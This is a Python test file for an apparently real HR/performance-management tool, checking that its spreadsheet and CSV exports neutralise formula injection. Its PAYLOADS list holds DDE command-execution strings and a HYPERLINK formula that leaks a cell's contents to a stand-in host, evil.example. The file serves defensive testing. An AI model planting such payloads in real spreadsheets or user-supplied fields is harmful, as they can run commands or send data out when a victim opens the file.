"""Formula injection: no spreadsheet export leaves text that a spreadsheet would run.

An organisation is built through the services layer, on a real SQLite file,
where every free-text field a person can type holds a formula payload (one
payload per workbook): people's names, the job description (title, purpose,
responsibilities, competencies, anchors, source), objectives (title,
description, measure, target), the development plan (rating comments, actions,
support), check-ins (goal, reality, options, will, evidence, carried forward,
amendments) and the reason given for each change.

Then every writer of .xlsx or .csv files is run: ``pmw export all`` and ``pmw
export WORKBOOK`` as xlsx and csv (real processes), the same tables as a
manager sees them (:func:`frames_to_xlsx`, :func:`frames_to_csv`), the job
description files (:func:`dumps_job_description`) and ``pmw
objectives-template``. (The dashboard offers no spreadsheet download.) Each
file is opened as a spreadsheet would: with openpyxl (no cell is a formula,
no text starts with ``= + - @``, a tab, a carriage return or their full-width
forms, and no sheet XML holds a formula element) and with :mod:`csv` (no field
starts so, plain numbers apart). And the data is still there: every text typed
comes back, once the one neutralising ``'`` is removed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest
from figures import record
from helpers import CYCLE

from pmwidgets.domain import Competency, JobDescription, Objective, Person, Responsibility, Role
from pmwidgets.domain.model import (
    Amendment,
    CheckIn,
    DevelopmentAction,
    DevelopmentPlan,
    ObjectiveProgress,
    Rating,
    SupportCommitment,
)
from pmwidgets.io.cells import unescape_cell
from pmwidgets.io.jobs.files import dumps_job_description, read_job_description
from pmwidgets.io.sheets.frames import frames_to_csv, frames_to_xlsx
from pmwidgets.services import Services
from pmwidgets.store import Store

pytestmark = pytest.mark.reliability

SECTION = "Formula injection"
ROOT = Path(__file__).resolve().parents[2]

#: What people type that a spreadsheet would run: DDE, its disguises, links, full-width forms.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "\uff1d1+1 full-width equals",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d1+1 full-width minus",
    "\uff20SUM(1) full-width at",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "'=1+1 already quoted",
)
#: First characters that make some spreadsheet run a cell.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@dataclass
class Org:
    """The database and, by workbook id, every text typed into it."""

    db: Path
    texts: dict[int, set[str]] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"sqlite:///{self.db}"

    def all_texts(self) -> set[str]:
        return set().union(*self.texts.values())


def _build(db: Path) -> Org:
    org = Org(db)
    with Store(org.url) as store:
        store.add_person(Person(id="admin", name="Ada Admin", roles=(Role.ADMIN,)), "setup")
        store.add_person(Person(id="boss", name="Bea Boss", roles=(Role.MANAGER,)), "setup")
        for i, p in enumerate(PAYLOADS):
            emp = f"emp{i}"
            store.add_person(Person(id=emp, name=p, manager_id="boss"), "setup")
            boss, me = Services(store, "boss"), Services(store, emp)
            wb = boss.create_workbook(emp, "boss", *CYCLE).id
            assert wb is not None
            job = JobDescription(
                title=p,
                purpose=p,
                responsibilities=(Responsibility(number=1, text=p, share=100),),
                competencies=(Competency(name=p, required=3, description=p, anchors={1: p}),),
                source=p,
            )
            boss.set_job_description(wb, job, store.latest_version(wb), reason=p)
            for s in (me, boss):
                s.confirm(wb, "job_description", s.open(wb).subject_hash("job_description"))
            objective = Objective(
                title=p, description=p, responsibilities=(1,), measure=p, target=p,
                due=dt.date(2027, 1, 1), weight=100, proposed_by=emp,
            )  # fmt: skip
            me.add_objective(wb, objective, store.latest_version(wb), reason=p)
            for s in (me, boss):
                s.confirm(
                    wb, "objectives", s.open(wb).subject_hash("objectives"), accept_reason="as is"
                )
            state = me.open(wb)
            assert state.job is not None
            gap = state.job.competencies[0].name
            plan = DevelopmentPlan(
                ratings=(Rating(competency=gap, by="manager", level=2, comment=p),),
                actions=(
                    DevelopmentAction(
                        kind="experience", description=p, gap=gap, due=dt.date(2027, 2, 1)
                    ),
                ),
                support=(SupportCommitment(text=p),),
            )
            boss.set_plan(wb, plan, store.latest_version(wb), reason=p)
            mine = Rating(competency=gap, by="employee", level=3, comment=p)
            plan = plan.model_copy(update={"ratings": (*plan.ratings, mine)})
            me.set_plan(wb, plan, store.latest_version(wb), reason=p)  # both rate: complete
            for s in (me, boss):
                s.confirm(wb, "development_plan", s.open(wb).subject_hash("development_plan"))
            check_in = CheckIn(
                on=dt.date(2026, 11, 1), goal=p, reality=p, options=p, will=p,
                progress=(ObjectiveProgress(objective=1, percent=50, evidence=p),),
                carried_forward=(p,),
                amendments=(Amendment(objective=1, proposal=p + " (a)", reason=p + " (b)"),),
            )  # fmt: skip
            me.save_check_in(wb, check_in, store.latest_version(wb), reason=p)
            # every text as the store holds it (short texts are stripped), as the export shows
            state = me.open(wb)
            assert state.job is not None
            person = next(x for x in store.find_people() if x.id == emp)
            o = state.objectives[0]
            c = state.check_ins[0]
            a = state.plan.actions[0]
            org.texts[wb] = {
                person.name, state.job.title, o.title, o.measure, o.target,
                c.goal, c.reality, c.options, c.will, a.description, a.gap or "",
            } | {e.reason for e in store.events() if e.workbook_id == wb and e.reason}  # fmt: skip
        assert store.verify().ok
    return org


@pytest.fixture(scope="module")
def org(tmp_path_factory: pytest.TempPathFactory) -> Org:
    """The organisation whose every free text is a formula payload."""
    return _build(tmp_path_factory.mktemp("inject") / "pmw.sqlite3")


# --- what a spreadsheet sees ---------------------------------------------------------


def _as_in_excel(text: str) -> str:
    """Text as an .xlsx can hold it (the writers drop control characters, CR becomes LF)."""
    return _NOT_IN_XML.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def check_xlsx(data: bytes, where: str) -> tuple[int, list[str]]:
    """Every cell of an .xlsx checked: (cells checked, their texts with the quote removed)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            assert "externalLink" not in name and "connections" not in name, (where, name)
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"{where}: {name} holds a formula"
    book = openpyxl.load_workbook(io.BytesIO(data))  # formulas would stay formulas
    cells = 0
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                cells += 1
                here = f"{where} {sheet.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{here} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), f"{here}: {cell.value!r}"
                    texts.append(unescape_cell(cell.value))
    return cells, texts


def check_csv(data: bytes, where: str) -> tuple[int, list[str]]:
    """Every field of a CSV checked: (fields checked, their texts with the quote removed)."""
    assert data.startswith(b"\xef\xbb\xbf"), f"{where}: UTF-8 with a BOM, so Excel reads it"
    cells = 0
    texts: list[str] = []
    for number, row in enumerate(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")), 1):
        for value in row:
            if not value:
                continue
            cells += 1
            if value.startswith(TRIGGERS):
                assert _NUMBER.fullmatch(value), f"{where} row {number}: {value!r}"
            texts.append(unescape_cell(value))
    return cells, texts


def assert_readable(expected: set[str], texts: list[str], where: str, excel: bool) -> None:
    """Every typed text is in some cell, exactly, once the neutralising quote is removed."""
    found = set(texts)
    for text in expected:
        shown = _as_in_excel(text) if excel else text.replace("\x00", "")
        assert shown in found, f"{where}: {text!r} is missing or changed"


@dataclass
class Tally:
    files: int = 0
    cells: int = 0
    texts: int = 0
    writers: Counter[str] = field(default_factory=Counter)

    def add(self, writer: str, cells: int, texts: int) -> None:
        self.files += 1
        self.cells += cells
        self.texts += texts
        self.writers[writer] += 1


def _record(tally: Tally, *, once: bool = False) -> None:
    """Record a test's figures; ``once`` (one test only) adds the payloads tried."""
    extra: dict[str, object] = {}
    if once:
        extra = {
            "payloads": len(PAYLOADS),
            "payloads_tried": "= + - @, tab, CR, full-width \uff1d\uff0b\uff0d\uff20,"
            " DDE =cmd|..., =DDE(), =HYPERLINK(), '=",
        }
    record(
        SECTION,
        files_checked=tally.files,
        cells_checked=tally.cells,
        texts_read_back=tally.texts,
        formulas_left=0,
        **{f"files: {writer}": n for writer, n in tally.writers.items()},
        **extra,
    )


def pmw(org: Org, *args: str) -> subprocess.CompletedProcess[str]:
    """Run the real ``pmw`` on the organisation's database."""
    env = {**os.environ, "PMW_DATABASE_URL": org.url}
    result = subprocess.run(
        [sys.executable, "-m", "pmwidgets.cli", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        cwd=ROOT,
    )
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return result


def _csv_files(folder: Path) -> Iterator[tuple[str, bytes]]:
    for path in sorted(folder.glob("*.csv")):
        yield path.name, path.read_bytes()


# --- the exports --------------------------------------------------------------------


@pytest.mark.parametrize("scope", ["all", "one"])
def test_pmw_export_tables_as_xlsx_and_csv(org: Org, scope: str, tmp_path: Path) -> None:
    tally = Tally()
    targets = {"all": org.all_texts()} if scope == "all" else {
        str(wb): org.texts[wb] for wb in (7,)
    }  # fmt: skip
    for target, expected in targets.items():
        book = tmp_path / f"{target}.xlsx"
        pmw(org, "export", target, "--format", "xlsx", "-o", str(book))
        cells, texts = check_xlsx(book.read_bytes(), f"pmw export {target} xlsx")
        assert_readable(expected, texts, f"pmw export {target} --format xlsx", excel=True)
        tally.add(f"pmw export {scope} --format xlsx", cells, len(expected))
        folder = tmp_path / f"{target}-csv"
        pmw(org, "export", target, "--format", "csv", "-o", str(folder))
        all_texts: list[str] = []
        for name, data in _csv_files(folder):
            cells, texts = check_csv(data, f"pmw export {target} csv {name}")
            all_texts += texts
            tally.add(f"pmw export {scope} --format csv", cells, 0)
        assert len(list(folder.glob("*.csv"))) >= 5
        assert_readable(expected, all_texts, f"pmw export {target} --format csv", excel=False)
        tally.texts += len(expected)
    _record(tally, once=scope == "all")


def test_the_tables_a_manager_sees(org: Org) -> None:
    from pmwidgets.services.frames import frames

    tally = Tally()
    with Store(org.url) as store:
        f = frames(Services(store, "boss"))
        tables = {
            "workbooks": f.workbooks,
            "objectives": f.objectives,
            "events": f.events,
            "check_ins": f.check_ins,
            "actions": f.actions,
        }
    cells, texts = check_xlsx(frames_to_xlsx(tables), "frames_to_xlsx")
    assert_readable(org.all_texts(), texts, "frames_to_xlsx", excel=True)
    tally.add("frames_to_xlsx", cells, len(org.all_texts()))
    all_texts: list[str] = []
    for name, data in frames_to_csv(tables).items():
        cells, texts = check_csv(data, f"frames_to_csv {name}")
        all_texts += texts
        tally.add("frames_to_csv", cells, 0)
    assert_readable(org.all_texts(), all_texts, "frames_to_csv", excel=False)
    _record(tally)


def test_job_description_spreadsheets(org: Org) -> None:
    tally = Tally()
    with Store(org.url) as store:
        op = Services.operator(store)
        jobs = [op.open(wb).job for wb in org.texts]
    for job in jobs:
        assert job is not None
        expected = {job.title, job.purpose, job.source, job.responsibilities[0].text}
        expected |= {job.competencies[0].name, job.competencies[0].description}
        expected |= set(job.competencies[0].anchors.values())
        for fmt, check in (("xlsx", check_xlsx), ("csv", check_csv)):
            data = dumps_job_description(job, fmt)
            cells, texts = check(data, f"job description .{fmt}")
            assert_readable(expected, texts, f"job description .{fmt}", excel=fmt == "xlsx")
            again = read_job_description(f"jd.{fmt}", data=data)
            if fmt == "csv":
                assert again == job, "the file reads back as the same job description"
            tally.add(f"job description .{fmt}", cells, len(expected))
    _record(tally)


def test_objectives_template(org: Org, tmp_path: Path) -> None:
    path = tmp_path / "team.xlsx"
    pmw(org, "objectives-template", str(path))
    cells, texts = check_xlsx(path.read_bytes(), "pmw objectives-template")
    assert "employee" in texts and cells > 20
    tally = Tally()
    tally.add("pmw objectives-template", cells, 0)
    _record(tally)


def test_the_checks_can_fail() -> None:
    """A formula, or text left unquoted, is caught by the checks above."""
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(AssertionError, match="holds a formula"):
        check_xlsx(out.getvalue(), "test")
    book = openpyxl.Workbook()
    book.active["A1"] = "@SUM(1)"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(AssertionError, match="@SUM"):
        check_xlsx(out.getvalue(), "test")
    with pytest.raises(AssertionError, match="cmd"):
        check_csv(b"\xef\xbb\xbfa,-2+cmd\r\n", "test")
    assert check_csv(b"\xef\xbb\xbfa,-2,'-2+cmd\r\n", "test") == (3, ["a", "-2", "-2+cmd"])
    with pytest.raises(AssertionError, match="missing or changed"):
        assert_readable({"=1+1"}, ["1+1"], "test", excel=False)
